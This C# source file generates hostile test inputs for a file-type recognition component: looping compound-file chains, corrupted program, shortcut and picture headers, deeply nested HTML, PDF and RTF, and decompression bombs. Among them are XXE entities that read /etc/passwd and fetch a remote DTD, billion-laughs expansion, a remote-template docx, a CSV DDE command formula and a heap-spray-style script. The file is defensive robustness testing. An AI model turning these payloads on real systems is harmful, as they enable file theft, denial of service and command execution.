using System.Buffers.Binary;
using System.Text;
using Noroshi.Makers.FileTypes;

namespace Noroshi.Makers.Hostile;

/// <summary>Hostile documents, programs and pictures: the document classes of the trust document that recognising by content touches.</summary>
public static class HostileDocuments
{
    /// <summary>All of them.</summary>
    public static IReadOnlyList<HostileInput> All { get; } =
    [
        .. Allocation(),
        .. Directories(),
        .. Ichitaro(),
        .. Programs(),
        .. Shortcuts(),
        .. Deep(),
        .. Xml(),
        .. Pictures(),
        .. Pdf(),
        .. Rtf(),
        .. Tricks(),
    ];

    /// <summary>A program that does nothing, of so many sections as its header states.</summary>
    internal static byte[] Program(ushort sections)
    {
        var bytes = ProgramMaker.Pe();
        BinaryPrimitives.WriteUInt16LittleEndian(bytes.AsSpan(0x86), sections);
        return bytes;
    }

    /// <summary>Offset of a sector of a compound file of version 3.</summary>
    private static int Sector(uint number) => (int)(number + 1) * 512;

    private static byte[] Compound() =>
        new CompoundMaker()
            .Stream("WordDocument", new byte[9_000])
            .Stream("1Table", new byte[5_000])
            .Stream("Folder/Inner", new byte[300])
            .Build();

    private static byte[] Patch32(byte[] bytes, params ReadOnlySpan<(int At, uint Value)> patches)
    {
        foreach (var (at, value) in patches)
        {
            BinaryPrimitives.WriteUInt32LittleEndian(bytes.AsSpan(at), value);
        }

        return bytes;
    }

    private static int Fat(byte[] bytes) => Sector(BinaryPrimitives.ReadUInt32LittleEndian(bytes.AsSpan(0x4C)));

    private static uint DirectorySector(byte[] bytes) => BinaryPrimitives.ReadUInt32LittleEndian(bytes.AsSpan(0x30));

    private static IEnumerable<HostileInput> Allocation()
    {
        yield return new(
            "document/ole-fat",
            "directory-chain-loops",
            () =>
            {
                var bytes = Compound();
                return Patch32(bytes, (Fat(bytes) + (4 * (int)DirectorySector(bytes)), DirectorySector(bytes)));
            },
            ""
        );
        yield return new(
            "document/ole-fat",
            "all-chains-loop",
            () =>
            {
                var bytes = Compound();
                var fat = Fat(bytes);
                for (var i = 0; i < 128; i++)
                {
                    Patch32(bytes, (fat + (4 * i), (uint)((i + 1) % 20)));
                }

                return bytes;
            },
            ""
        );
        yield return new("document/ole-fat", "fat-is-the-header", () => Patch32(Compound(), (0x4C, 0xFFFFFFFF)), "");
        yield return new("document/ole-fat", "difat-loops", () => Patch32(Compound(), (0x44, 0u), (0x48, 0xFFFFFFFF)));
        yield return new("document/ole-fat", "fat-sectors-2-to-the-32", () => Patch32(Compound(), (0x2C, 0xFFFFFFFF)));
        yield return new("document/ole-fat", "mini-fat-behind-end", () => Patch32(Compound(), (0x3C, 0x00FFFFFFu), (0x40, 0x7FFFFFFFu)));
        yield return new(
            "document/ole-fat",
            "sector-shift-31",
            () => Compound() is var bytes ? [.. bytes[..0x1E], 31, 0, .. bytes[0x20..]] : []
        );
        yield return new(
            "document/ole-fat",
            "sector-shift-0",
            () => Compound() is var bytes ? [.. bytes[..0x1E], 0, 0, .. bytes[0x20..]] : []
        );
        yield return new("document/ole-fat", "header-only", () => Compound()[..512], "");
        yield return new("document/ole-fat", "signature-only", () => Compound()[..8]);
        yield return new(
            "document/ole-fat",
            "version-4-cut",
            () => new CompoundMaker(4).Stream("WordDocument", new byte[9_000]).Build()[..5_000],
            ""
        );
    }

    private static IEnumerable<HostileInput> Directories()
    {
        // An entry has 128 bytes: siblings at 68 and 72, its child at 76, start at 116, size at 120.
        byte[] With(int offset, uint value, int entries = 4)
        {
            var bytes = Compound();
            for (var i = 0; i < entries; i++)
            {
                Patch32(bytes, (Sector(DirectorySector(bytes)) + (i * 128) + offset, value));
            }

            return bytes;
        }

        yield return new("document/ole-directory", "all-left-to-root", () => With(68, 0), "");
        yield return new("document/ole-directory", "all-right-to-first", () => With(72, 1), "");
        yield return new("document/ole-directory", "all-children-of-themselves", () => With(76, 1), "");
        yield return new("document/ole-directory", "siblings-behind-end", () => With(68, 0x00FFFFFF), "");
        yield return new("document/ole-directory", "names-of-no-length", () => With(64, 0));
        yield return new("document/ole-directory", "names-of-64k", () => With(64, 0xFFFF));
        yield return new("document/ole-directory", "sizes-2-to-the-63", () => With(124, 0x7FFFFFFF));
        yield return new(
            "document/ole-directory",
            "20k-streams",
            () =>
            {
                var maker = new CompoundMaker();
                for (var i = 0; i < 3_000; i++)
                {
                    maker.Stream($"s{i}", []);
                }

                return maker.Build();
            }
        );
    }

    private static IEnumerable<HostileInput> Ichitaro()
    {
        foreach (var at in (int[])[30, 512, 513, 1_024, 1_600, 3_000])
        {
            yield return new("document/ichitaro", $"cut-at-{at}", () => DocumentMaker.Jtd()[..at]);
        }

        yield return new("document/ichitaro", "compressed-cut", () => DocumentMaker.CompressedJtd()[..4_000], "");
        yield return new("document/ichitaro", "compressed-garbage", () => DocumentMaker.CompressedJtd(new string('n', 200)));
        yield return new("document/ichitaro", "old-of-44-bytes", () => DocumentMaker.OldIchitaro(4)[..44]);
        yield return new("document/ichitaro", "version-4-sectors-cut", () => DocumentMaker.Jtd(4)[..6_000], "");
    }

    private static IEnumerable<HostileInput> Programs()
    {
        yield return new("document/program", "65535-sections", () => Program(65_535), "");
        yield return new(
            "document/program",
            "65535-sections-present",
            () =>
            {
                var program = Program(65_535);
                var all = new byte[0x178 + (65_535 * 40) + 512];
                program.AsSpan(0, 0x178).CopyTo(all);
                for (var i = 0; i < 65_535; i++)
                {
                    program.AsSpan(0x178, 40).CopyTo(all.AsSpan(0x178 + (i * 40)));
                }

                return all;
            }
        );
        yield return new("document/program", "new-header-at-2-GB", () => Patch32(ProgramMaker.Pe(), (0x3C, 0x7FFFFFFFu)));
        yield return new("document/program", "new-header-before-start", () => Patch32(ProgramMaker.Pe(), (0x3C, 0xFFFFFFF0)));
        yield return new("document/program", "new-header-is-the-old", () => Patch32(ProgramMaker.Pe(), (0x3C, 0u)));
        yield return new(
            "document/program",
            "resource-folder-points-at-itself",
            () =>
            {
                var bytes = ProgramMaker.Pe();
                // Resources (third folder of the optional header) in the only section; each entry is a folder, and the same one.
                Patch32(bytes, (0x98 + 96 + 16, 0x1000u), (0x98 + 96 + 20, 0x200u));
                var resources = bytes.AsSpan(0x200);
                BinaryPrimitives.WriteUInt16LittleEndian(resources[14..], 40);
                for (var i = 0; i < 40; i++)
                {
                    BinaryPrimitives.WriteUInt32LittleEndian(resources[(16 + (i * 8))..], i == 0 ? 3u : 14u);
                    BinaryPrimitives.WriteUInt32LittleEndian(resources[(20 + (i * 8))..], 0x80000000);
                }

                return bytes;
            }
        );
        yield return new(
            "document/program",
            "section-behind-end",
            () => Patch32(ProgramMaker.Pe(), (0x178 + 16, 0xFFFFFFFF), (0x178 + 20, 0xFFFFFFFF))
        );
        yield return new("document/program", "optional-header-64k", () => Patch32(ProgramMaker.Pe(), (0x94, 0x0102FFFFu)));
        yield return new("document/program", "only-MZ", () => "MZ"u8.ToArray());
        yield return new(
            "document/program",
            "elf-64k-headers",
            () => [.. ProgramMaker.Elf()[..56], 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF]
        );
    }

    private static IEnumerable<HostileInput> Shortcuts()
    {
        byte[] Lnk(uint flags, params byte[] rest)
        {
            byte[] bytes = [.. ProgramMaker.Lnk()[..0x4C], .. rest];
            return Patch32(bytes, (20, flags));
        }

        yield return new("document/shortcut", "id-list-64k-in-nothing", () => Lnk(0x81, 0xFF, 0xFF));
        yield return new("document/shortcut", "id-of-no-length", () => Lnk(0x81, 8, 0, 1, 0, 1, 0, 1, 0, 1, 0));
        yield return new(
            "document/shortcut",
            "location-size-2-to-the-32",
            () => Lnk(0x82, 0xFF, 0xFF, 0xFF, 0xFF, 0x1C, 0, 0, 0, 3, 0, 0, 0, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0x7F)
        );
        yield return new("document/shortcut", "all-flags-no-data", () => Lnk(0xFFFFFFFF));
        yield return new("document/shortcut", "string-64k-in-nothing", () => Lnk(0xFC, 0xFF, 0xFF, 65));
        yield return new(
            "document/shortcut",
            "extra-block-of-no-length",
            () => Lnk(0x80, [.. Enumerable.Repeat((byte[])[4, 0, 0, 0], 50_000).SelectMany(one => one)])
        );
        yield return new("document/shortcut", "extra-block-2-GB", () => Lnk(0x80, 0xFF, 0xFF, 0xFF, 0x7F, 3, 0, 0, 0xA0));
        yield return new(
            "document/shortcut",
            "extra-blocks-8M",
            () => Lnk(0x80, [.. Enumerable.Repeat((byte[])[8, 0, 0, 0, 3, 0, 0, 0xA0], 1_000_000).SelectMany(one => one)])
        );
        yield return new(
            "document/shortcut",
            "url-file-5-MB",
            () => new ByteText().Add("[InternetShortcut]\r\n").Repeat("URL=http://www.example.com/\r\n", 180_000).Done()
        );
    }

    private static IEnumerable<HostileInput> Deep()
    {
        yield return new(
            "document/html-deep",
            "1M-div",
            () => new ByteText().Add("<!DOCTYPE html><html><body>").Repeat("<div>", 1_000_000).Add("x").Done()
        );
        yield return new(
            "document/html-deep",
            "1M-mixed-tags-closed",
            () => new ByteText().Add("<html><body>").Repeat("<b><i>", 500_000).Repeat("</b></i>", 500_000).Done()
        );
        yield return new(
            "document/html-deep",
            "1M-tables",
            () => new ByteText().Add("<html><body>").Repeat("<table><tr><td>", 1_000_000).Done()
        );
        yield return new(
            "document/html-deep",
            "500k-attributes",
            () => new ByteText().Add("<html><body><p ").Each(500_000, i => $"a{i}=1 ").Add(">x").Done()
        );
        yield return new(
            "document/html-deep",
            "attribute-20-MB",
            () => new ByteText().Add("<html><body><a href=\"http://www.example.com/").Repeat("aaaaaaaaaa", 2 << 20).Add("\">x</a>").Done()
        );
        yield return new(
            "document/html-deep",
            "comment-unclosed-20-MB",
            () => new ByteText().Add("<html><body><!--").Repeat("- -> --", 3 << 20).Done()
        );
        yield return new(
            "document/html-deep",
            "200k-unclosed-scripts",
            () => new ByteText().Add("<html><body>").Repeat("<script><!--<script>", 200_000).Done()
        );
        yield return new(
            "document/html-deep",
            "1M-entities",
            () => new ByteText().Add("<html><body>").Repeat("&amp&#x1F600;&#99999999999;&", 400_000).Done()
        );
        yield return new(
            "document/html-deep",
            "100k-links",
            () => new ByteText().Add("<html><body>").Each(100_000, i => $"<a href='http://h{i}.example/'>x</a>").Done(),
            "limit."
        );
    }

    private static IEnumerable<HostileInput> Xml()
    {
        const string External =
            "<!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\"><!ENTITY % p SYSTEM \"http://192.0.2.1/x.dtd\">%p;]>";
        var laughs = new StringBuilder("<!DOCTYPE r [<!ENTITY l0 \"lol\">");
        for (var i = 1; i < 12; i++)
        {
            laughs.Append(
                System.Globalization.CultureInfo.InvariantCulture,
                $"<!ENTITY l{i} \"{string.Concat(Enumerable.Repeat($"&l{i - 1};", 10))}\">"
            );
        }

        var entities = laughs.Append("]>").ToString();
        const string Head = "<?xml version=\"1.0\"?>";
        byte[] Word(string prolog, string inside) =>
            DocumentMaker.Zip(
                (
                    "[Content_Types].xml",
                    Head
                        + prolog
                        + "<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"><Override PartName=\"/word/document.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml\"/></Types>"
                ),
                ("_rels/.rels", Head + prolog + "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"/>"),
                ("word/document.xml", Head + prolog + $"<r>{inside}</r>")
            );
        yield return new("document/xml", "external-entity", () => Encoding.ASCII.GetBytes(Head + External + "<r>&x;</r>"));
        yield return new(
            "document/xml",
            "external-entity-svg",
            () => Encoding.ASCII.GetBytes(Head + External + "<svg xmlns=\"http://www.w3.org/2000/svg\"><text>&x;</text></svg>")
        );
        yield return new("document/xml", "external-entity-docx", () => Word(External, "&x;"));
        yield return new("document/xml", "billion-laughs", () => Encoding.ASCII.GetBytes(Head + entities + "<r>&l11;</r>"));
        yield return new(
            "document/xml",
            "billion-laughs-svg",
            () => Encoding.ASCII.GetBytes(Head + entities + "<svg xmlns=\"http://www.w3.org/2000/svg\"><text>&l11;</text></svg>")
        );
        yield return new("document/xml", "billion-laughs-docx", () => Word(entities, "&l11;"));
        yield return new(
            "document/xml",
            "docx-content-types-100-MB",
            () =>
                RawZip.Make(
                    new RawZipEntry(
                        "[Content_Types].xml"u8.ToArray(),
                        new ByteText().Add("<Types>").Repeat("          ", 10 << 20).Done()
                    ).Deflated(),
                    new RawZipEntry("word/document.xml"u8.ToArray(), []).Deflated()
                )
        );
        yield return new(
            "document/xml",
            "svg-1M-deep",
            () => new ByteText().Add("<svg xmlns=\"http://www.w3.org/2000/svg\">").Repeat("<g>", 1_000_000).Done()
        );
        yield return new(
            "document/xml",
            "remote-template-docx",
            () =>
                DocumentMaker.Zip(
                    (
                        "[Content_Types].xml",
                        Head
                            + "<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"><Override PartName=\"/word/document.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml\"/></Types>"
                    ),
                    ("word/document.xml", "<w:document/>"),
                    (
                        "word/_rels/settings.xml.rels",
                        "<Relationships><Relationship Id=\"r\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\" Target=\"http://192.0.2.1/t.dotm\" TargetMode=\"External\"/></Relationships>"
                    )
                )
        );
    }

    private static IEnumerable<HostileInput> Pictures()
    {
        byte[] Png(uint width, uint height)
        {
            var head = new byte[17];
            "IHDR"u8.CopyTo(head);
            BinaryPrimitives.WriteUInt32BigEndian(head.AsSpan(4), width);
            BinaryPrimitives.WriteUInt32BigEndian(head.AsSpan(8), height);
            head[12] = 8;
            head[13] = 6;
            var crc = new byte[4];
            BinaryPrimitives.WriteUInt32BigEndian(crc, HostileArchivesBytes.Crc32(head));
            return [0x89, .. "PNG\r\n"u8, 0x1A, 0x0A, 0, 0, 0, 13, .. head, .. crc, 0, 0, 0, 0, .. "IEND"u8, 0xAE, 0x42, 0x60, 0x82];
        }

        yield return new("document/picture", "png-2-to-the-62-points", () => Png(0x7FFFFFFF, 0x7FFFFFFFu));
        yield return new("document/picture", "png-no-points", () => Png(0, 0));
        yield return new("document/picture", "png-chunk-4-GB", () => [.. Png(1, 1)[..33], 0xFF, 0xFF, 0xFF, 0xFF, .. "tEXt"u8]);
        yield return new("document/picture", "gif-65535-squared", () => ProgramMaker.Gif().Patched(6, 0xFF, 0xFF, 0xFF, 0xFF));
        yield return new(
            "document/picture",
            "jpg-segment-of-no-length",
            () => [0xFF, 0xD8, 0xFF, 0xE0, .. Enumerable.Repeat((byte[])[0, 0, 0xFF, 0xE1], 100_000).SelectMany(one => one)]
        );
        yield return new(
            "document/picture",
            "tif-folder-points-at-itself",
            () => [.. "II"u8, 42, 0, 8, 0, 0, 0, 1, 0, 0, 1, 4, 0, 1, 0, 0, 0, 0xFF, 0xFF, 0xFF, 0x7F, 8, 0, 0, 0]
        );
        yield return new("document/picture", "bmp-2-GB-wide", () => ProgramMaker.Bmp().Patched(18, 0xFF, 0xFF, 0xFF, 0x7F));
    }

    private static IEnumerable<HostileInput> Pdf()
    {
        const string Head = "%PDF-1.7\n";
        yield return new(
            "document/pdf",
            "xref-points-back",
            () => Encoding.ASCII.GetBytes(Head + "xref\n0 1\n0000000000 65535 f \ntrailer\n<</Root 1 0 R/Prev 9>>\nstartxref\n9\n%%EOF\n")
        );
        yield return new(
            "document/pdf",
            "pages-are-their-own-children",
            () =>
                Encoding.ASCII.GetBytes(
                    Head
                        + "1 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj\n2 0 obj\n<</Type/Pages/Kids[2 0 R 2 0 R]/Parent 2 0 R/Count 2147483647>>\nendobj\ntrailer\n<</Root 1 0 R>>\n%%EOF\n"
                )
        );
        yield return new(
            "document/pdf",
            "length-is-itself",
            () =>
                Encoding.ASCII.GetBytes(
                    Head + "5 0 obj\n<</Length 5 0 R>>\nstream\nx\nendstream\nendobj\ntrailer\n<</Root 5 0 R>>\n%%EOF\n"
                )
        );
        yield return new("document/pdf", "1M-open-lists", () => new ByteText().Add(Head).Add("1 0 obj\n").Repeat("[", 1_000_000).Done());
        yield return new(
            "document/pdf",
            "500k-open-dictionaries",
            () => new ByteText().Add(Head).Add("1 0 obj\n").Repeat("<</A", 500_000).Done()
        );
        yield return new(
            "document/pdf",
            "1M-open-parentheses",
            () => new ByteText().Add(Head).Add("1 0 obj\n").Repeat("(", 1_000_000).Done()
        );
        yield return new(
            "document/pdf",
            "200k-objects",
            () => new ByteText().Add(Head).Each(200_000, i => $"{i} 0 obj\n<<>>\nendobj\n").Add("%%EOF").Done()
        );
        yield return new("document/pdf", "head-1024-times", () => new ByteText().Repeat(Head, 1_024).Repeat("%%EOF\n", 1_024).Done());
        yield return new(
            "document/pdf",
            "flate-bomb",
            () =>
            {
                var bomb = HostileArchivesBytes.Deflate(new byte[64 << 20]);
                return new ByteText()
                    .Add(Head)
                    .Add($"1 0 obj\n<</Length {bomb.Length + 2}/Filter[/FlateDecode/FlateDecode]>>\nstream\n")
                    .B(0x78, 0xDA)
                    .Add(bomb)
                    .Add("\nendstream\nendobj\n%%EOF")
                    .Done();
            }
        );
    }

    private static IEnumerable<HostileInput> Rtf()
    {
        yield return new("document/rtf", "1M-open-groups", () => new ByteText().Add("{\\rtf1").Repeat("{", 1_000_000).Done());
        yield return new("document/rtf", "bin-2-GB", () => "{\\rtf1\\bin2147483647 x}"u8.ToArray());
        yield return new("document/rtf", "bin-negative", () => "{\\rtf1\\bin-2147483648 x}"u8.ToArray());
        yield return new("document/rtf", "head-without-version", () => "{\\rt\0\0\0{\\object\\objdata 0105}}"u8.ToArray());
        yield return new(
            "document/rtf",
            "objdata-20-MB-of-digits-and-blanks",
            () => new ByteText().Add("{\\rtf1{\\object\\objocx\\objdata ").Repeat("0 1\r\n\t{\\*\\x}", 2 << 20).Done()
        );
    }

    private static IEnumerable<HostileInput> Tricks()
    {
        yield return new(
            "document/script",
            "one-line-20-MB",
            () => new ByteText().Add("var a='").Repeat("%u9090", 3 << 20).Add("';eval(unescape(a));").Done()
        );
        yield return new("document/script", "1M-lines", () => new ByteText().Add("@echo off\r\n").Repeat("rem x\r\n", 1_000_000).Done());
        yield return new("document/script", "encoded-header-lies", () => "#@~^//////==garbage^#~@"u8.ToArray());
        yield return new(
            "document/text",
            "csv-with-formulas",
            () => new ByteText().Repeat("=cmd|'/c x'!A0,@SUM(1),+1,-1\r\n", 100_000).Done()
        );
        yield return new("document/text", "half-utf-16", () => [0xFF, 0xFE, .. Enumerable.Repeat((byte)0xD8, 1_000_001)]);
        yield return new("document/text", "esc-1M", () => [.. Enumerable.Repeat((byte)0x1B, 1_000_000)]);
    }
}
